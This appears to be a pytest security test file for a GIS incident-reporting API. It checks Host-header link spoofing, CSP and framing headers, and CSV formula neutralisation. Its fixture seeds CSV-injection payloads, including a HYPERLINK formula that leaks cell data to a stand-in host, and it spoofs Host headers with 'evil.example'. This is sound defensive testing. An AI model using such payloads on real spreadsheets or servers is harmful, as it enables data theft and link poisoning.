"""Links come from the configured public URL (never the Host header); HTML pages carry CSP,
frame-ancestors and nosniff; CSV exports neutralise spreadsheet formulas."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.settings import Settings
from common import bearer, make_toy_store
from gis_grid import csvsafe

EVIL = "evil.example"


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    store = make_toy_store(tmp_path_factory.mktemp("hdr") / "toy.gpkg")
    h = bearer(store, "command_center", "370402")
    app = create_app(Settings(db=store.url, public_url="https://grid.example.gov.cn/gis", default_page_size=1))
    with TestClient(app, headers=h) as c:
        past = (datetime.now(timezone.utc) - timedelta(days=1)).isoformat()
        for text in ('=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1)", "+1", "plain"):
            r = c.post("/incidents", json=dict(lon=117.505, lat=34.815, category="dispute", description=text,
                                                reporter=text, at=past))
            assert r.status_code == 201, r.text
        yield c, store


@pytest.mark.parametrize("url", ["/ogc", "/ogc/collections", "/ogc/collections/grids/items?limit=1",
                                 "/ogc/collections/buildings/tiles/WebMercatorQuad/tilejson.json", "/incidents",
                                 "/grids/370402/residents?limit=1"])
def test_links_use_the_public_url_not_host(env, url):
    client, _ = env
    r = client.get(url, headers={"Host": EVIL, "X-Forwarded-Host": EVIL})
    assert r.status_code == 200, r.text[:300]
    assert EVIL not in r.text
    assert "https://grid.example.gov.cn/gis/" in r.text


@pytest.mark.parametrize("url", ["/map", "/login", "/ogc?f=html", "/map/incidents?layer=heatmap"])
def test_html_pages_carry_csp_and_frame_headers(env, url):
    client, _ = env
    r = client.get(url)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html"), (url, r.status_code)
    csp = r.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp and "default-src 'self'" in csp
    assert r.headers["x-frame-options"] == "DENY" and r.headers["x-content-type-options"] == "nosniff"


def test_nosniff_on_json_too(env):
    client, _ = env
    r = client.get("/capabilities")
    assert r.headers["x-content-type-options"] == "nosniff" and "content-security-policy" not in r.headers


def test_csv_exports_neutralise_formulas(env):
    client, store = env
    r = client.get("/incidents/export.csv")
    assert r.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells
    # the reporter column (masked) and the stats CSV go through the same rule
    r = client.get("/stats/divisions?format=csv")
    assert r.status_code == 200
    assert not [c for row in csv.reader(io.StringIO(r.text)) for c in row if c[:1] in ("=", "+", "@")]


def test_csvsafe_rules():
    assert csvsafe.cell("=1+1") == "'=1+1" and csvsafe.cell("-2") == "'-2" and csvsafe.cell("\t=x") == "'\t=x"
    assert csvsafe.cell(-2.5) == -2.5 and csvsafe.cell("a=b") == "a=b" and csvsafe.cell(None) is None
